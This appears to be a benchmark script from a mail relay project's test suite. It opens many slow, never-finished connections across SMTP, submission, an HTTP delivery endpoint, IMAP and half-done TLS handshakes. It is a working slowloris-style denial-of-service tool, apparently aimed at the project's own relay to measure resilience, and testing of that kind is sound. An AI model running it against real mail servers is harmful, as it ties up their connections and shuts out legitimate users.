"""
Clients that hold what others need, as slowly as they may: ``python -m test.bench.attackers --help``

Each sort of them is COUNT strong, spread over the addresses SOURCE, and comes again whenever it is sent away. They go
on until standard input ends. A line of JSON on standard output, each second, says how many of each sort are held now.
"""

import argparse
import asyncio
import base64
import contextlib
import itertools
import json
import logging
import re
import sys
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field

from test.support.mail_clients import unchecked_tls

# The largest message is 31,457,280 octets; nobody here comes to the end of his.
LARGE, ANNOUNCED = 30_000_000, 31_000_000
# How many of each sort send one of that size. Of the others it is what is too large for the filter to take unasked.
LARGE_ONES = 5
MEDIUM = 1_000_000
DRIP_S = 15
AGAIN_S = 2
PATIENCE_S = 120
LINE = b"x" * 76 + b"\r\n"


@dataclass
class Attack:
    """What all attackers know: the relay's address and domain, a login, and how many of each sort are held."""

    relay: str
    domain: str
    user: str
    password: str
    held: Counter = field(default_factory=Counter)


Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@contextlib.asynccontextmanager
async def connected(attack: Attack, source: str, port: int, *, tls: bool) -> AsyncIterator[Connection]:
    reader, writer = await asyncio.open_connection(
        attack.relay, port, local_addr=(source, 0), ssl=unchecked_tls() if tls else None
    )
    try:
        yield reader, writer
    finally:
        writer.close()


async def say(connection: Connection, line: str) -> None:
    """Send an SMTP command, and wait for a reply of success.

    :raises ConnectionError: it is another one.
    """
    reader, writer = connection
    if line:
        writer.write(line.encode() + b"\r\n")
    while (reply := await reader.readline())[3:4] == b"-":
        pass
    if not re.match(rb"[23]", reply):
        raise ConnectionError(reply)


async def fill(connection: Connection, size: int) -> None:
    """Send the beginning of a message, at full speed."""
    for _ in range(0, size, 1000 * len(LINE)):
        connection[1].write(1000 * LINE)
        await connection[1].drain()
        # A lost connection is told only to who waits.
        await asyncio.sleep(0)
        if connection[1].is_closing():
            raise ConnectionError


async def drip(attack: Attack, sort: str, connection: Connection, octet: bytes) -> None:
    """Send an octet now and then until the relay has enough of it."""
    reader, writer = connection
    attack.held[sort] += 1
    try:
        while True:
            if octet:
                writer.write(octet)
                await writer.drain()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(DRIP_S):
                    if not await reader.read(4096):
                        return
    finally:
        attack.held[sort] -= 1


async def transaction(attack: Attack, sort: str, connection: Connection, sender: str, size: int) -> None:
    """Begin a message, and never end it."""
    for command in (f"MAIL FROM:<{sender}>", f"RCPT TO:<{attack.user}>", "DATA"):
        await say(connection, command)
    connection[1].write(b"From: <%b>\r\n\r\n" % sender.encode())
    await fill(connection, size)
    await drip(attack, sort, connection, b"x")


async def port_25(attack: Attack, source: str, size: int) -> None:
    async with connected(attack, source, 25, tls=False) as connection:
        await say(connection, "")
        await say(connection, "EHLO attacker.test")
        await say(connection, "STARTTLS")
        await connection[1].start_tls(unchecked_tls())
        await say(connection, "EHLO attacker.test")
        await transaction(attack, "port 25", connection, "someone@attacker.test", size)


async def submission(attack: Attack, source: str, size: int) -> None:
    async with connected(attack, source, 465, tls=True) as connection:
        await say(connection, "")
        await say(connection, "EHLO attacker.test")
        login = base64.b64encode(f"\0{attack.user}\0{attack.password}".encode()).decode()
        await say(connection, f"AUTH PLAIN {login}")
        await transaction(attack, "submission", connection, attack.user, size)


async def mxdeliv(attack: Attack, source: str, size: int) -> None:
    async with connected(attack, source, 443, tls=True) as connection:
        connection[1].write(
            f"POST /mxdeliv HTTP/1.1\r\nHost: {attack.domain}\r\nX-MAIL-FROM: someone@attacker.test\r\n"
            f"X-MAIL-TO: {attack.user}\r\nContent-Length: {ANNOUNCED}\r\n\r\n".encode()
        )
        await fill(connection, size)
        await drip(attack, "/mxdeliv", connection, b"x")


def handshake(port: int) -> Callable[[Attack, str, int], Awaitable[None]]:
    """The beginning of a TLS handshake."""

    async def half(attack: Attack, source: str, size: int) -> None:
        async with connected(attack, source, port, tls=False) as connection:
            if port == 25:
                await say(connection, "")
                await say(connection, "EHLO attacker.test")
                await say(connection, "STARTTLS")
            connection[1].write(b"\x16\x03\x01\x02\x00\x01")
            await drip(attack, f"handshake {port}", connection, b"")

    return half


async def imap(attack: Attack, source: str, size: int) -> None:
    async with connected(attack, source, 993, tls=True) as connection:
        await drip(attack, "IMAP, no login", connection, b"")


SORTS = (port_25, submission, mxdeliv, imap, *map(handshake, (25, 465, 587, 993, 443)))


async def attacker(attack: Attack, sort: Callable, source: str, size: int) -> None:
    """One attacker of a sort, which does not give up."""
    while True:
        with contextlib.suppress(OSError, EOFError, TimeoutError):
            await sort(attack, source, size)
        await asyncio.sleep(AGAIN_S)


async def report(attack: Attack) -> None:
    while True:
        print(json.dumps(attack.held), flush=True)
        await asyncio.sleep(1)


async def run(attack: Attack, count: int, sources: list[str]) -> None:
    """All attackers, until standard input ends."""
    tasks = [asyncio.create_task(report(attack))]
    for sort in SORTS:
        for number, source in zip(range(count), itertools.cycle(sources), strict=False):
            size = LARGE if number < LARGE_ONES else MEDIUM
            tasks.append(asyncio.create_task(attacker(attack, sort, source, size)))
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in tasks:
        task.cancel()


def main() -> None:
    parser = argparse.ArgumentParser(prog="attackers", description="Hold connections to a relay.")
    for name in ("relay", "domain", "user", "password"):
        parser.add_argument(name)
    parser.add_argument("count", type=int)
    parser.add_argument("sources", nargs="+")
    arguments = parser.parse_args()
    # Connections break all the time.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    attack = Attack(arguments.relay, arguments.domain, arguments.user, arguments.password)
    asyncio.run(run(attack, arguments.count, arguments.sources))


if __name__ == "__main__":
    main()
